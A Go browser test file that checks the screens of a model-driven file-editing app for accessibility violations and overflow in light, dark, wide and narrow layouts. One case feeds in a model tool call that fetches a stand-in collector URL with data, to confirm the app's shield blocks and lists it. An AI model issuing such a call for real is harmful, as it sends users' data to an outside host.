package examples

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bailey-go/bailey/browsertest/internal/e2e"
)

// Every screen and dialogue, in light and dark, wide and narrow, has no violation for axe-core, and
// is not wider than the window.
func TestFilesScreens(t *testing.T) {
	t.Parallel()
	long(t)
	eachFiles(t, func(t *testing.T, p *opened) {
		p.calm(t)
		say(t, p, "search for TODO in notes")
		rested(t, p)
		for _, c := range []struct {
			name string
			do   func(t *testing.T)
			undo string // a key
		}{
			{"tools", func(t *testing.T) { must(t, p.Click(testContext(t), "#tab-tools")) }, ""},
			{"provider", func(t *testing.T) {
				must(t, p.Click(testContext(t), "#tab-settings"))
				must(t, p.Eval(testContext(t), `(() => { const e = document.getElementById("provider"); e.value = "local"; e.dispatchEvent(new Event("change")); })()`, nil))
				must(t, p.WaitFor(testContext(t), `!document.getElementById("remote").hidden`))
				must(t, p.Eval(testContext(t), `document.getElementById("url").value = "http://localhost:1234/v1"`, nil))
				press(t, p, "#use")
				must(t, p.WaitFor(testContext(t), `!document.getElementById("needs").hidden`))
			}, ""},
			{"card", func(t *testing.T) {
				must(t, p.Click(testContext(t), "#tab-steps"))
				must(t, p.Click(testContext(t), "#cards summary"))
			}, ""},
			{"rewind", func(t *testing.T) { press(t, p, "#rewind"); dialogue(t, p) }, "Escape"},
			{"conversations", func(t *testing.T) { press(t, p, "#all"); dialogue(t, p) }, "Escape"},
			{"rename", func(t *testing.T) { press(t, p, "#rename"); dialogue(t, p) }, "Escape"},
			{"delete", func(t *testing.T) {
				must(t, p.Click(testContext(t), `#tree [data-path="README.md"] .label`))
				must(t, p.WaitFor(testContext(t), `!!document.querySelector("#tree [aria-selected=true]")`))
				press(t, p, "#remove")
				dialogue(t, p)
			}, "Escape"},
			{"trouble", func(t *testing.T) {
				must(t, p.Eval(testContext(t), `void (() => { document.getElementById("trouble-text").textContent = "The provider does not accept the key. Look at it in Settings."; document.getElementById("trouble").hidden = false; document.getElementById("update").hidden = false; })()`, nil))
			}, ""},
			{"tabs", func(t *testing.T) {
				must(t, p.Eval(testContext(t), `void (() => { document.getElementById("trouble").hidden = true; document.getElementById("update").hidden = true; })()`, nil))
				for range 3 {
					n := eval[int](t, p, `document.querySelectorAll("#sessions .chat").length`)
					press(t, p, "#new")
					must(t, p.WaitFor(testContext(t), fmt.Sprintf(`document.querySelectorAll("#sessions .chat").length === %d`, n+1)))
					say(t, p, "list the files") // an empty conversation would be the next one too
					rested(t, p)
				}
			}, ""},
			{"copy", func(t *testing.T) {
				press(t, p, "#copy")
				must(t, p.WaitFor(testContext(t), `!document.getElementById("pending").hidden`))
			}, ""},
		} {
			t.Run(c.name, func(t *testing.T) {
				ctx := testContext(t)
				p.look(t, false, 1280)
				c.do(t)
				p.eachLook(t, func(dark bool, width int) {
					if chrome, ok := p.driver.(*e2e.Page); ok && *shots && dark == (width == 390) && (c.name == "tools" || c.name == "rewind" || c.name == "tabs") {
						_, err := chrome.Screenshot(ctx, e2e.Shot{File: filepath.Join(root, "examples/files/screenshots", fmt.Sprintf("%s-%d.png", c.name, width))})
						must(t, err)
					}
				})
				if c.undo != "" {
					must(t, p.Press(ctx, c.undo))
					must(t, p.WaitFor(ctx, `!document.getElementById("dialog").open`))
				}
			})
		}
		noErrors(t, p)
	})
}

// eachLook checks the visible part in light and dark, wide and narrow, and calls more for each.
func (o *opened) eachLook(t *testing.T, more func(dark bool, width int)) {
	t.Helper()
	for _, look := range []struct {
		dark  bool
		width int
	}{{false, 1280}, {true, 1280}, {false, 390}, {true, 390}} {
		if !o.look(t, look.dark, look.width) {
			continue
		}
		noViolations(t, o)
		if wide := eval[int](t, o, `document.documentElement.scrollWidth`); wide > look.width {
			t.Errorf("the page is %d px wide in a window of %d", wide, look.width)
		}
		if more != nil {
			more(look.dark, look.width)
		}
	}
}

// The same checks for the parts that need a model: questions, grants, blocked attempts and changes.
func TestFilesScreensOfAModel(t *testing.T) {
	t.Parallel()
	long(t)
	eachEngine(t, func(t *testing.T, f *filesPage) {
		p := f.in
		p.calm(t)
		turns := func(calls ...call) {
			f.then(turn{calls: calls}, turn{text: "That was it."})
			f.say("do it")
		}
		answered := func(key string) func(t *testing.T) {
			return func(*testing.T) { f.answer(key); f.rested() }
		}
		closed := func(t *testing.T) {
			choose(t, p, map[bool]string{true: "Stay", false: "No answer"}[f.check(`[...document.querySelectorAll("#dialog button")].some((b) => b.textContent === "Stay")`) == "true"])
		}
		for _, c := range []struct {
			name     string
			do, undo func(t *testing.T)
		}{
			{"a link", func(t *testing.T) {
				f.then(turn{text: "[the page](https://somewhere.example/" + strings.Repeat("far/", 60) + ")"})
				f.say("show it")
				f.rested()
				shows(t, p, "the page")
				pressInFrame(t, p, "[data-href]")
				holds(t, "it asks", dialogue(t, p), "https://somewhere.example/far/")
			}, closed},
			{"a question", func(*testing.T) {
				f.then(turn{calls: []call{tc("read", "path", "notes/plan.md")}})
				turns(tc("write", "path", "notes/plan.md", "content", "nothing\n"))
				f.asks()
			}, answered(session)},
			{"a question of two things", func(*testing.T) {
				turns(tc("write", "path", "one.txt", "content", "one\n"), tc("write", "path", "a-folder-with-a-long-name/and-a-file-with-a-longer-one-without-a-place-to-break.txt", "content", strings.Repeat("two ", 100)+"\n"))
				f.asks()
			}, answered(project)},
			{"another conversation's question", func(*testing.T) {
				turns(tc("delete", "path", "one.txt"))
				f.asks()
				f.click("#new")
				f.wait("whose it is", `!document.getElementById("ask").shadowRoot.getElementById("ask-whose").hidden`)
				f.check(`document.getElementById("ask").shadowRoot.getElementById("sheet").focus()`)
			}, answered(reject)},
			{"what was allowed", func(*testing.T) {
				f.check(`document.querySelector("#sessions li:last-child .chat").click()`)
				f.wait("it is in view", `document.getElementById("cards").childElementCount > 2`)
				f.click("#tab-settings")
				f.wait("answers of both kinds", `["in this folder", "in this chat"].every((how) => document.getElementById("grants").innerText.includes(how)) && document.querySelectorAll("#grants button").length > 2`)
			}, nil},
			{"what was stopped", func(*testing.T) {
				turns(tc("code_run", "code", `return await fetch("https://collect.example/?data=1")`))
				f.rested()
				f.click("#tab-shield")
				f.wait("a row", `document.querySelectorAll("#stopped li").length > 0 && document.querySelectorAll("#holds li").length > 0`)
			}, nil},
			{"differences", func(*testing.T) {
				f.click("#tab-undo")
				f.wait("changes", `document.querySelectorAll("#history [name=difference]").length > 1`)
				f.check(`document.querySelectorAll("#history [name=difference]").forEach((b) => b.click())`)
				f.wait("differences", `!document.querySelector("#history [name=difference]") && !!document.querySelector("#history .diff .add")`)
			}, nil},
			{"the model's question", func(t *testing.T) {
				turns(tc("question", "questions", []any{map[string]any{"question": "Which of these shall it be?", "options": []any{map[string]any{"label": "The first", "description": "as it was"}, map[string]any{"label": "The second"}}}}))
				holds(t, "it asks", dialogue(t, p), "Which of these shall it be?", "The second")
			}, closed},
			{"the plan's question", func(t *testing.T) {
				f.rested()
				tick(t, p, "#plan")
				turns(tc("write", "path", "planned.txt", "content", "planned\n"), tc("delete", "path", "hours.csv"))
				holds(t, "it asks", f.asks(), "Apply these 2 changes?")
			}, answered(reject)},
		} {
			t.Run(c.name, func(t *testing.T) {
				f.t = t
				p.look(t, false, 1280)
				c.do(t)
				p.eachLook(t, nil)
				p.look(t, false, 1280)
				if c.undo != nil {
					c.undo(t)
				}
			})
			if f.t = t; t.Failed() {
				return // the next begin where this one ends
			}
		}
	})
}
